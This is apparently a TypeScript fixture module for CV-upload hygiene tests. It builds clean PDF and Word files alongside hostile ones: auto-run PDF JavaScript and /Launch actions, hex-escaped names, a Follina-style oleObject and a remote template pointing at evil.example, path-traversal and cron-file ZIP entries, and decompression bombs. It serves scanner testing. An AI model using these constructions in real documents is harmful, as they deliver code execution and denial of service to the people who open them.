/**
 * CVs built byte by byte for the CV hygiene tests: ordinary PDFs and Word files, and the hostile
 * ones a reviewer tries (PDF actions, hidden names, Follina-style relationships, macros, path
 * traversal, ZIP bombs). Not a test file itself.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF with these objects (bodies between `N 0 obj` and `endobj`) and a cross-reference table. */
export function pdf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  objects.forEach((body, index) => {
    offsets.push(length);
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
    parts.push(part);
    length += part.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>';
const text = 'BT /F1 12 Tf 72 770 Td (Ada Lovelace - Curriculum Vitae) Tj ET';
const CONTENT = Buffer.concat([Buffer.from(`<< /Length ${deflateSync(text).length} /Filter /FlateDecode >>\nstream\n`), deflateSync(text), Buffer.from('\nendstream')]);

/** A compressed object stream holding these objects (numbered from 10). */
export function objectStream(objects: string[], data?: Buffer): Buffer {
  let offsets = '';
  let body = '';
  objects.forEach((object, index) => {
    offsets += `${10 + index} ${body.length} `;
    body += `${object}\n`;
  });
  const packed = deflateSync(data ?? Buffer.from(offsets + body, 'latin1'));
  return Buffer.concat([Buffer.from(`<< /Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`), packed, Buffer.from('\nendstream')]);
}

export const CLEAN_PDF = pdf([CATALOG, PAGES, PAGE, CONTENT, objectStream(['<< /Producer (Word) /Title (CV) >>', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'])]);

export const HOSTILE_PDFS: Record<string, Buffer> = {
  'an /OpenAction running JavaScript': pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>', PAGES, PAGE, CONTENT]),
  'a /Launch action on opening the page': pdf([CATALOG, PAGES, '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>', CONTENT]),
  'JavaScript under a hex-escaped name (/J#61vaScript)': pdf([CATALOG, PAGES, '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >> >>', CONTENT]),
  'an embedded file': pdf(['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>', PAGES, PAGE, CONTENT, '<< /Type /Filespec /F (a.exe) >>']),
  'JavaScript inside a compressed object stream': pdf([CATALOG, PAGES, PAGE, CONTENT, objectStream(['<< /Type /Action /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>'])]),
  'an object stream whose own type name is escaped (/Obj#53tm) hiding /Launch': pdf([
    CATALOG,
    PAGES,
    PAGE,
    CONTENT,
    objectStream(['<< /S /Launch /F (calc.exe) >>']).toString('latin1').replace('/ObjStm', '/Obj#53tm'),
  ]),
  'an object stream that inflates to 40 MB (a bomb)': pdf([CATALOG, PAGES, PAGE, CONTENT, objectStream(['<< >>'], Buffer.alloc(40 * 1024 * 1024, 0x20))]),
};

interface ZipEntry {
  data: Buffer | string;
  /** Declare this uncompressed size in the central directory instead of the real one. */
  declaredSize?: number;
  /** Store uncompressed (method 0) instead of deflating. */
  stored?: boolean;
}

/** A ZIP with deflated entries, as Word writes them. */
export function deflatedZip(entries: Record<string, Buffer | string | ZipEntry>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, value] of Object.entries(entries)) {
    const entry: ZipEntry = typeof value === 'string' || Buffer.isBuffer(value) ? { data: value } : value;
    const data = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data);
    const packed = entry.stored ? data : deflateRawSync(data);
    const nameBytes = Buffer.from(name);
    const crc = crc32(data);
    const size = entry.declaredSize ?? data.length;
    const header = (signature: number, length: number) => {
      const buffer = Buffer.alloc(length);
      buffer.writeUInt32LE(signature, 0);
      return buffer;
    };
    const local = header(0x04034b50, 30);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x800, 6);
    local.writeUInt16LE(entry.stored ? 0 : 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const directory = header(0x02014b50, 46);
    directory.writeUInt16LE(20, 4);
    directory.writeUInt16LE(20, 6);
    directory.writeUInt16LE(0x800, 8);
    directory.writeUInt16LE(entry.stored ? 0 : 8, 10);
    directory.writeUInt32LE(crc, 16);
    directory.writeUInt32LE(packed.length, 20);
    directory.writeUInt32LE(size, 24);
    directory.writeUInt16LE(nameBytes.length, 28);
    directory.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, packed);
    central.push(directory, nameBytes);
    offset += 30 + nameBytes.length + packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(central.length / 2, 8);
  end.writeUInt16LE(central.length / 2, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = (extra = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${extra}</Types>`;
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const relationships = (items: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
const HYPERLINK = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/ada" TargetMode="External"/>';
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:p><w:r><w:t>Ada Lovelace, analyst.</w:t></w:r></w:p>'.repeat(40)}</w:body></w:document>`;

function docx(extra: Record<string, Buffer | string | ZipEntry> = {}, { documentRels = HYPERLINK, contentTypes = '' } = {}): Buffer {
  return deflatedZip({
    '[Content_Types].xml': CONTENT_TYPES(contentTypes),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': DOCUMENT,
    'word/_rels/document.xml.rels': relationships(documentRels),
    'word/printerSettings/printerSettings1.bin': Buffer.alloc(512, 7),
    ...extra,
  });
}

/** An ordinary CV: deflated parts, a LinkedIn hyperlink (an external relationship Word writes for any link), printer settings. */
export const CLEAN_DOCX = docx();

export const HOSTILE_DOCXS: Record<string, Buffer> = {
  'an oleObject with an external target (Follina)': docx(
    {},
    {
      documentRels: `${HYPERLINK}<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/index.html!x-usc:http://evil.example/index.html" TargetMode="External"/>`,
    },
  ),
  'a template fetched from outside, TargetMode written with a character reference': docx(
    {},
    { documentRels: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>` },
  ),
  'a VBA project (vbaProject.bin)': docx({ 'word/vbaProject.bin': Buffer.alloc(2048, 1) }),
  'a macro-enabled content type': docx({}, { contentTypes: '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }),
  'an entry climbing out of its folder (../)': docx({ 'word/../../evil.sh': '#!/bin/sh\n' }),
  'an absolute entry name': docx({ '/etc/cron.d/evil': '* * * * * root sh\n' }),
  'a backslash entry name': docx({ '..\\..\\evil.bat': 'calc\n' }),
  'an entry that inflates 1000×': docx({ 'word/media/image1.png': Buffer.alloc(20 * 1024 * 1024, 0) }),
  'a central directory declaring 2 GiB inside 2 MB': docx({ 'word/media/image1.png': { data: Buffer.alloc(2 * 1024 * 1024, 0x41), declaredSize: 0x7fffffff } }),
  'too many entries': docx(Object.fromEntries(Array.from({ length: 1200 }, (_, index) => [`word/media/e${index}.xml`, '<x/>']))),
};

/** A legacy Word file (OLE2 header and one directory sector) listing these storages. */
export function oleDoc(storages: string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  const directory = Buffer.alloc(512);
  ['Root Entry', 'WordDocument', ...storages].slice(0, 4).forEach((name, index) => {
    const at = index * 128;
    directory.write(name, at, 'utf16le');
    directory.writeUInt16LE((name.length + 1) * 2, at + 64);
    directory[at + 66] = index === 0 ? 5 : index === 1 ? 2 : 1;
  });
  return Buffer.concat([header, directory, Buffer.alloc(1024, 0)]);
}

/** The EICAR test string every virus scanner reports (a harmless, standard test). */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
